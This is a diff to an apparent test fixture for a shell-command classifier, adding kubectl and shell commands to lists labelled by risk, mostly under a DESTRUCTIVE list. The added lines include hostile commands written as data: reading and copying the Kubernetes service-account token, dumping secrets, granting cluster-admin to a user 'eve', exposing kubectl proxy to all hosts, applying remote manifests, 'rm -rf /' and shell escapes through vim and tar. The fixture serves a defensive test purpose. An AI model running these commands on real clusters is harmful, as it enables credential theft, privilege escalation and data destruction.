@@ -45,6 +45,19 @@ systemctl status kubelet
 watch -n 5 kubectl get pods
 kubectl get pods | xargs -n1 echo
 find / -name core -exec ls {} ;
+kubectl exec -n shop cart-0 -- cat /etc/resolv.conf
+kubectl exec -n shop deploy/cart -c app -- env
+kubectl exec cart-0 -- printenv DATABASE_URL
+kubectl exec -it cart-0 -- ls -la /data
+kubectl exec cart-0 -- nslookup orders.shop
+kubectl exec cart-0 -- getent hosts orders
+kubectl exec cart-0 -- df -h
+kubectl exec cart-0 -- ps aux
+kubectl exec cart-0 -- wget -qO- http://orders.shop.svc:8080/healthz
+kubectl exec db-0 -- psql -c 'select 1'
+kubectl set env deploy/cart --list -n shop
+k get pods -n shop
+k3s kubectl get nodes
 `;
 
 const CHANGE = String.raw`
@@ -55,7 +68,6 @@ kubectl set resources deploy/cart --limits=memory=512Mi
 kubectl scale deploy/cart --replicas=3
 kubectl apply -f cart.yaml
 kubectl apply -f - <<EOF
-kubectl exec -n shop cart-0 -- cat /etc/resolv.conf
 kubectl drain worker-1 --ignore-daemonsets
 kubectl cordon worker-1
 kubectl edit cm cart
@@ -89,6 +101,17 @@ kubectl get pods &&
 git pull
 diff <(kubectl get a) <(kubectl get b)
 jq -n env
+kubectl exec -it cart-0 -- sh
+kubectl exec cart-0 -- bash -c 'cat /etc/hosts'
+kubectl exec cart-0 -- kill 1
+kubectl exec cart-0 -- env DEBUG=1 ./run
+kubectl exec -it cart-0
+kubectl debug -it cart-0 --image=busybox -- ps
+kubectl set env deploy/cart LOG_LEVEL=debug
+kubectl set env deploy/cart LOG_LEVEL- --list
+kubectl set image deploy/cart app=cart:2
+printenv
+tar xf dump.tar
 `;
 
 const DESTRUCTIVE = String.raw`
@@ -156,6 +179,28 @@ ssh node-1 reboot
 aws ec2 terminate-instances --instance-ids i-1
 git push --force
 chmod -R 777 /
+kubectl exec cart-0 -- cat /var/run/secrets/kubernetes.io/serviceaccount/token
+kubectl set env deploy/cart --list --resolve
+kubectl get --raw /api/v1/namespaces/shop/secrets/db
+kubectl get all,secret -o json
+kubectl get secret db --template={{.data}}
+kubectl get deploy cart secret/db -o yaml
+kubectl create token admin
+kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=eve
+kubectl config view --flatten --minify
+kubectl replace --raw /api/v1/namespaces/shop/finalize -f x.json
+kubectl proxy --address=0.0.0.0 --accept-hosts=.*
+kubectl taint nodes --all key=value:NoExecute
+kubectl patch deploy cart -p '{"spec":{"replicas":0}}'
+kubectl apply -k github.com/eve/x
+kubectl cp shop/cart-0:/var/run/secrets/kubernetes.io/serviceaccount/token token
+oc adm policy add-cluster-role-to-user cluster-admin eve
+k delete ns shop
+k3s kubectl delete ns shop
+busybox rm -rf /data
+alias k=kubectl
+vim -c ":!rm -rf /"
+tar cf - / --checkpoint=1 --checkpoint-action=exec=sh
 `;
 
 const lines = (text: string) =>
